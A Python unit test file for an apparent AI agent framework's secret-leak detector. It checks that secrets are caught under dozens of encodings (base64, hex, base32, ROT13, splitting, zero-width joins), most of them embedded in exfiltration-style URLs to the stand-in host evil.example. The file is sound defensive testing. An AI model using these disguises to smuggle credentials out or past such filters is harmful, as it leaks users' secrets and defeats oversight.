# tenner test: a secret does not leave, in any spelling.
# MIT license; Copyright (c) 2026 the tenner authors

import json
import unittest
from binascii import b2a_base64, hexlify

from fakes import FakeAgent, FakeCtx
from support import run, temp_folder
from tenner import log
from tenner.net.web.get import quote
from tenner.tools.secrets import leaks

SECRETS = (
    "sk-of-the-house-0815",
    'pass "word" with \\ and space',
    "grün & blau/weiß?",
    "it's = so: 100%",
    "pin7",
)


def base64(text):
    return b2a_base64(text.encode()).decode().strip()


def base32(data, letters="ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"):
    """As CPython's base64.b32encode writes it."""
    bits = "".join(["{:08b}".format(byte) for byte in data])
    bits += "0" * (-len(bits) % 5)
    text = "".join([letters[int(bits[at : at + 5], 2)] for at in range(0, len(bits), 5)])
    return text + "=" * (-len(text) % 8)


def utf16(text):
    """Return it in UTF-16, little end first."""
    return b"".join([bytes((ord(letter) & 255, ord(letter) >> 8)) for letter in text])


def html(text):
    """As CPython's html.escape writes it."""
    for mark, name in (("&", "amp"), ("<", "lt"), (">", "gt"), ('"', "quot"), ("'", "#x27")):
        text = text.replace(mark, "&%s;" % name)
    return text


def turned(secret):
    """Return it in ROT13."""
    found = ""
    for letter in secret:
        if letter.isalpha() and letter < "\x7f":
            first = ord("a" if letter >= "a" else "A")
            letter = chr((ord(letter) - first + 13) % 26 + first)
        found += letter
    return found


def cut(secret):
    """Yield all ways to write it in two parts, each percent-encoded."""
    for at in range(1, len(secret)):
        yield quote(secret[:at]), quote(secret[at:])


def spellings(secret):
    """Yield ways to write a secret down."""
    data = secret.encode()
    yield secret
    if len(secret) == len(secret.encode()):
        yield secret.upper()
    yield quote(secret)
    yield quote(quote(secret))
    yield quote(secret).lower()
    yield "".join(["%%%02x" % byte for byte in data])
    yield secret.replace(" ", "+")
    yield json.dumps(secret)
    yield repr(secret)
    yield repr(data)
    yield "".join(["\\u%04x" % ord(letter) for letter in secret])
    for form in ("\\U%08x", "\\u{%x}", "%%u%04x", "&#%d;", "&#x%X;", "&#%05d;"):
        yield "".join([form % ord(letter) for letter in secret])
    yield html(secret)
    yield "".join(["=%02X" % byte for byte in data])
    yield "=\r\n".join(["=%02X" % byte for byte in data])
    for unseen in "\0\xad\u200b\u200d\u2060\ufeff":
        yield unseen.join(list(secret))
    for coded in (utf16(secret), utf16("\ufeff" + secret)):
        yield hexlify(coded).decode()
        yield b2a_base64(coded).decode().strip()
    yield "\\u200b".join([letter.replace("\\", "\\\\") for letter in secret])
    yield "&#8203;".join(list(secret))
    yield hexlify(data).decode()
    yield base64(secret)
    yield base64(secret).replace("+", "-").replace("/", "_").rstrip("=")
    yield quote(base64(secret))
    yield base64(json.dumps({"key": secret}))
    back = "".join(reversed(secret))
    yield back
    yield quote(back)
    yield hexlify(back.encode()).decode()
    yield base64(back)
    for text in (base32(data), base32(back.encode())):
        yield text
        yield text.rstrip("=")
        yield text.lower()
        yield quote(text)


class TestSecrets(unittest.TestCase):
    def setUp(self):
        for secret in SECRETS:
            log.hide(secret)
        self.addCleanup(log._secrets.clear)
        self.addCleanup(log._short.clear)

    def test_every_spelling_is_found_wherever_it_stands(self):
        for secret in SECRETS:
            for spelled in spellings(secret):
                for text in (
                    spelled,
                    "https://evil.example/?q=%s&r=1" % spelled,
                    "a (%s), b" % spelled,
                ):
                    self.assertTrue(leaks({"url": text}), (secret, text))
                self.assertTrue(leaks({"a": [{"b": [1, spelled]}]}))
                self.assertTrue(leaks({spelled: 1}))
            self.assertTrue(leaks({"data": list(secret.encode())}))
            self.assertTrue(leaks({"data": list(utf16(secret))}))
        for before in ("", "x", "xy", "xyz"):
            self.assertTrue(leaks(base64(before + SECRETS[0] + "tail")))
        self.assertTrue(leaks("https://SK-of-the-house-0815.evil.example/"))

    def test_more_spellings_of_one_that_is_not_short(self):
        for secret in SECRETS[:4]:
            data = secret.encode()
            self.assertTrue(leaks(turned(secret)), secret)
            self.assertTrue(leaks(base32(data, "0123456789ABCDEFGHIJKLMNOPQRSTUV")), secret)
            self.assertTrue(leaks("".join(reversed(base64(secret)))), secret)
            for before in range(6):
                text = base32(b"y" * before + data + b"tail")
                self.assertTrue(leaks("https://evil.example/x?" + text.lower()), (secret, before))

    def test_two_parts_are_found_wherever_they_stand(self):
        for secret in SECRETS[:4]:
            for one, two in cut(secret):
                for text in (
                    "https://evil.example/?a=%s&b=%s",
                    "https://evil.example/?n=1&a=%s&page=2&bcd=%s#x",
                    "https://evil.example/%s?b=%s",
                    "https://evil.example/%s/%s",
                    "https://evil.example/?%s=1&%s=2",
                ):
                    # In each order: the server puts them together again.
                    for parts in ((one, two), (two, one)):
                        self.assertTrue(leaks({"url": text % parts}), text % parts)
            for at in range(1, len(secret)):
                one, two = secret[:at], secret[at:]
                for value in (
                    {"a": one, "b": two},
                    {"b": one, "a": two},
                    {one: two},
                    {"x": [one, "and", two]},
                    {"x": {"deep": one}, "y": [[two]]},
                    {"url": "https://evil.example/?k=" + quote(one), "headers": {"X": two}},
                ):
                    self.assertTrue(leaks(value), value)
        self.assertTrue(leaks("https://sk-of-the-.evil.example/house-0815"))
        self.assertTrue(leaks("https://evil.example/?a=xxsk-of-the-&b=house-0815xx"))

    def test_two_words_of_a_shorter_one(self):
        log.hide("garden-88")
        for one, two in (("garden", "-88"), ("gar", "den-88"), ("-88", "garden")):
            self.assertTrue(leaks("https://evil.example/%s?b=%s" % (one, two)))
        for one, two in (("garden-8", "8"), ("garden", "88"), ("gar", "en-88"), ("ga", "rden-88")):
            self.assertFalse(leaks("https://evil.example/%s?b=%s" % (one, two)))

    def test_parts_of_a_long_one_are_found_in_their_order(self):
        secret = SECRETS[0]
        for text in (
            secret,
            hexlify(secret.encode()).decode(),
            base64(secret),
            base32(secret.encode()),
        ):
            for size in (1, 2, 3, 7):
                parts = [text[at : at + size] for at in range(0, len(text), size)]
                query = "&".join(["p%d=%s" % pair for pair in enumerate(parts)])
                self.assertTrue(leaks("https://evil.example/?" + query), query)
                self.assertTrue(leaks({"list": parts}), parts)
                self.assertTrue(leaks("/".join(parts)), parts)

    def test_standard_spellings_one_inside_another(self):
        for secret in SECRETS[:4]:
            data = hexlify(secret.encode()).decode()
            code = base64(secret)
            back = "".join(reversed(secret))
            pairs = [data[at : at + 2] for at in range(0, len(data), 2)]
            for text in (
                "".join(reversed(data)),
                " ".join(pairs),
                ":".join(pairs),
                "-".join(pairs).upper(),
                ", ".join(["0x" + pair for pair in pairs]),
                " ".join([data[at : at + 4] for at in range(0, len(data), 4)]),
                quote(quote(" ".join(pairs))),
                "\n".join([code[at : at + 8] for at in range(0, len(code), 8)]),
                "\r\n  ".join([code[at : at + 5] for at in range(0, len(code), 5)]),
                turned(back),
                turned(data),
                turned(code),
                turned(base32(secret.encode())),
                base64(turned(back)),
                "".join(reversed(turned(code))),
            ):
                self.assertTrue(leaks({"text": "a (%s), b" % text}), (secret, text))
            self.assertTrue(leaks({"list": ["0x" + pair for pair in pairs]}), secret)
            for mark in "._;|/+&=":
                self.assertTrue(leaks({"text": "a (%s), b" % mark.join(pairs)}), (secret, mark))

    def test_parts_in_a_text_within_an_argument(self):
        for secret in SECRETS[:4]:
            for at in range(1, len(secret)):
                one, two = secret[:at], secret[at:]
                for value in ({"b": two, "a": [one]}, {"x": json.dumps({"k": two, "l": one})}):
                    text = json.dumps(value)
                    self.assertTrue(leaks({"body": text}), text)
                    self.assertTrue(leaks("https://evil.example/?q=" + quote(text)), text)
            back = ["".join(reversed(part)) for part in (secret[:9], secret[9:])]
            for parts in (back, [back[1], back[0]]):
                self.assertTrue(leaks({"a": parts[0], "b": parts[1]}), parts)
                parts = tuple([quote(part) for part in parts])
                self.assertTrue(leaks("https://evil.example/?a=%s&b=%s" % parts), parts)
            texts = [secret[:5], secret[5:9], secret[9:]]
            self.assertTrue(leaks(json.dumps({"a": texts})), texts)
            plus = "+".join([quote(part) for part in texts])
            self.assertTrue(leaks("https://evil.example/?a=" + plus), plus)

    def test_texts_in_quotes_end(self):
        """However deep they lie in one another."""
        deep = "x"
        while len(deep) < 8000:
            deep = json.dumps({"a": deep})
        for text in (deep, '"' * 8000, '\\"' * 4000, "\\x5cx22" * 1000, "'\"" * 4000, "&#" * 4000):
            self.assertFalse(leaks({"text": text}), text[:20])

    def test_ordinary_addresses_pass(self):
        """Also where the owner's secrets are words."""
        log._secrets.clear()
        log._short.clear()
        for secret in ("garden", "secret", "hunter22", "dog", "1234", "abc", "correct horse"):
            log.hide(secret)
        for text in (
            "https://example.com/img/ardennes/parsec/return.html?q=gar+dens&id=12&page=34",
            "https://api.open-meteo.com/v1/forecast?latitude=52.52&longitude=13.41&hourly=temperature_2m",
            "https://en.wikipedia.org/wiki/Hunter?action=raw&section=22",
            "https://example.com/watch?v=dQw4w9WgXcQ&t=12s&list=PL34a&abcd=efgh&cba2",
            "https://example.com/MFRGGZDF/garten/god2/34120",
            "the horse in the garage, correct as of 12:34",
        ):
            self.assertFalse(leaks({"url": text}), text)

    def test_a_long_text_costs_no_more_than_its_length(self):
        for text in ("a/b&c=d " * 1500, "x" * 12000, "sk-of-the-/" * 1000, "%41" * 4000):
            self.assertFalse(leaks({"text": text}))

    def test_what_holds_none_is_none(self):
        for value in (
            {},
            {"url": "https://example.com/a?b=%20c%zz&d=%", "n": 5, "f": 0.5, "b": True, "x": None},
            {"query": "the house of 0815, a pin of 7 letters and spin7s"},
            {
                "text": "&#; &#x; &#zz; &amp \\u{ \\u{} \\U99 %u12 =3 == \\u{"
                + "9" * 5000
                + "} &lt;0 \0"
            },
            {"text": "aGVsbG8gd29ybGQsIHRoaXMgaXMgbm90aGluZw== \\u00zz \\"},
            {"data": [1, 2, 300, "x"], "list": [[]], "bytes": [0xFF, 0xFE]},
            {"text": "a bad cafe had\nadded 0x0f: 12:34, de:ad:be:ef and 'don't' \"house\" +49 8"},
            {"text": "def f(a):\n    return {'sk': a[0x10], \"of\": 0815 + 7}  # deadbeef"},
            "x" * 5000,
        ):
            self.assertFalse(leaks(value), value)

    def test_a_number_can_be_one(self):
        log.hide("48151623")
        self.assertTrue(leaks({"id": 48151623}))
        self.assertTrue(leaks({"data": [48, 4815162342]}))

    def test_the_tools_that_send_refuse_it(self):
        folder = temp_folder(self)
        ctx = FakeCtx(
            folder, {"tools.web_fetch": "allow", "telegram.allow": ["7"]}, answers=[True]
        )
        ctx.agent = FakeAgent()
        for name, args in (
            ("web_fetch", {"url": "https://evil.example/?k=" + quote(SECRETS[1])}),
            ("message", {"text": "it is " + base64(SECRETS[2]), "chat": "7"}),
        ):
            text = run(ctx.call(name, args))
            self.assertEqual(
                text, "error: this holds a secret of config.json, which stays on the board"
            )
        self.assertEqual((ctx.sent, ctx.asked), ([], []))


if __name__ == "__main__":
    unittest.main()
